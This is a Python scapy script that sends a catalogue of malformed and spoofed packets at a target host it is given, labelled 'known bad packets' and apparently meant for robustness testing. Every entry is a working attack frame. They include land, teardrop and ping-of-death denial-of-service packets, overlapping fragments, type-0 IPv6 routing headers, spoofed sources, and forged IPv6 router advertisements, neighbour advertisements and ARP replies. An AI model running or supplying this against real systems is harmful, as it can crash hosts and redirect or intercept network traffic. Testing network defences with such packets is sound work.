# Known bad packets, by scapy: nasty.py DEVICE ROUTER_MAC OWN4 OWN6 TARGET4 TARGET6. It prints how many frames it sent, by kind.
import struct
import sys
from scapy.all import (Ether, Dot1Q, IP, IPv6, TCP, UDP, ICMP, Raw, ARP, IPOption, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, IPv6ExtHdrDestOpt,
                       IPv6ExtHdrFragment, Jumbo, PadN, RouterAlert, ICMPv6ND_RA, ICMPv6EchoRequest, ICMPv6ND_NA, fragment, sendp)

device, mac, own4, own6, to4, to6 = sys.argv[1:]
eth = Ether(dst=mac)
four, six = IP(src=own4, dst=to4), IPv6(src=own6, dst=to6)
fragmented = fragment(four / ICMP() / Raw(b"x" * 3000), fragsize=800)

KINDS = {
    "land": [eth / IP(src=to4, dst=to4) / TCP(sport=80, dport=80, flags="S"), eth / IPv6(src=to6, dst=to6) / TCP(sport=80, dport=80, flags="S")],
    "teardrop": [eth / IP(src=own4, dst=to4, id=9, flags="MF", proto=17) / Raw(b"a" * 40), eth / IP(src=own4, dst=to4, id=9, frag=3, proto=17) / Raw(b"b" * 8)],
    "ping of death": [eth / IP(src=own4, dst=to4, id=10, frag=8189, proto=1) / Raw(b"c" * 400)],
    "tiny fragment": [eth / IP(src=own4, dst=to4, id=11, flags="MF", proto=6) / Raw(b"\0\x50"), eth / IP(src=own4, dst=to4, id=11, frag=1, proto=6) / Raw(b"d" * 20)],
    "overlap": [eth / f for f in fragmented + fragmented[1:]],
    "source route": [eth / IP(src=own4, dst=to4, options=[IPOption(b"\x83\x0b\x04" + b"\x0a\0\0\x01" * 2), IPOption(b"\0")]) / ICMP()],
    "bad option": [eth / IP(src=own4, dst=to4, options=[IPOption(b"\x07\xff\x04")], ihl=6) / ICMP(), eth / IP(src=own4, dst=to4, options=[IPOption(b"\x44\x00\x05\x00")]) / UDP(sport=1, dport=80)],
    "bad header length": [eth / Raw(bytes([0x40 | n]) + bytes(IP(src=own4, dst=to4) / UDP(dport=80) / Raw(b"e" * 40))[1:]) for n in (0, 4, 15)],
    "bad total length": [eth / IP(src=own4, dst=to4, len=n) / UDP(sport=2, dport=80) / Raw(b"f" * 10) for n in (0, 19, 21, 2000, 65535)],
    "bad checksum": [eth / IP(src=own4, dst=to4, chksum=1) / UDP(sport=3, dport=80), eth / four / TCP(dport=80, chksum=1)],
    "bad version": [eth / Raw(b"\x75" + bytes(four / UDP())[1:]), Ether(dst=mac, type=0x86DD) / Raw(bytes(four / UDP())), Ether(dst=mac, type=0x0800) / Raw(bytes(six / UDP()))],
    "truncated": [eth / Raw(bytes(four / TCP(dport=80))[:n]) for n in (0, 1, 19, 20, 23, 33)] + [Ether(dst=mac, type=0x86DD) / Raw(bytes(six / TCP(dport=80))[:n]) for n in (0, 39, 40, 45, 59)],
    "bad offset": [eth / four / TCP(dport=80, dataofs=n) for n in (0, 4, 15)],
    "christmas tree": [eth / four / TCP(dport=80, flags="FSRPAUEC"), eth / six / TCP(dport=80, flags=""), eth / four / TCP(dport=0, sport=0, flags="SF")],
    "bad UDP length": [eth / four / UDP(sport=4, dport=80, len=n) / Raw(b"g" * 10) for n in (0, 7, 1000)],
    "routing header": [eth / six / IPv6ExtHdrRouting(type=0, segleft=1, addresses=[to6]) / ICMPv6EchoRequest()],
    "long chain": [eth / six / IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / TCP(dport=80, flags="S")],
    "endless header": [eth / six / IPv6ExtHdrDestOpt(len=255, options=PadN(optdata=b"h" * 4)) / UDP(dport=80)],
    "hop by hop late": [eth / six / IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop(options=RouterAlert()) / UDP(dport=80)],
    "jumbogram": [eth / IPv6(src=own6, dst=to6, plen=0) / IPv6ExtHdrHopByHop(options=Jumbo(jumboplen=70000)) / UDP(dport=80)],
    "IPv6 fragments": [eth / six / IPv6ExtHdrFragment(id=5, offset=0, m=1) / TCP(dport=80, flags="S"), eth / six / IPv6ExtHdrFragment(id=5, offset=1, m=0, nh=6) / Raw(b"i" * 16), eth / six / IPv6ExtHdrFragment(id=6, offset=8191, m=1, nh=58) / Raw(b"j" * 8)],
    "atomic fragment": [eth / six / IPv6ExtHdrFragment(id=7, offset=0, m=0) / ICMPv6EchoRequest()],
    "from nobody": [eth / IP(src="127.0.0.1", dst=to4) / UDP(dport=80), eth / IP(src="0.0.0.0", dst=to4) / UDP(dport=80), eth / IP(src="224.0.0.1", dst=to4) / ICMP(), eth / IPv6(src="ff02::1", dst=to6) / ICMPv6EchoRequest()],
    "false router": [Ether(dst="33:33:00:00:00:01") / IPv6(src=own6, dst="ff02::1", hlim=255) / ICMPv6ND_RA()],
    "false neighbour": [Ether(dst="33:33:00:00:00:01") / IPv6(src=own6, dst="ff02::1", hlim=255) / ICMPv6ND_NA(tgt=to6), Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, psrc=to4, pdst=own4)],
    "tagged": [Ether(dst=mac) / Dot1Q(vlan=5) / four / ICMP(), Ether(dst=mac) / Dot1Q(vlan=5) / Dot1Q(vlan=6) / four / ICMP()],
    "dead": [eth / IP(src=own4, dst=to4, ttl=0) / UDP(dport=80), eth / IPv6(src=own6, dst=to6, hlim=0) / UDP(dport=80)],
    "jumbo": [eth / four / UDP(sport=5, dport=80) / Raw(b"k" * 1422)],
}

for name, frames in KINDS.items():
    sendp(frames, iface=device, verbose=False)
    print(f"{name}\t{len(frames)}")
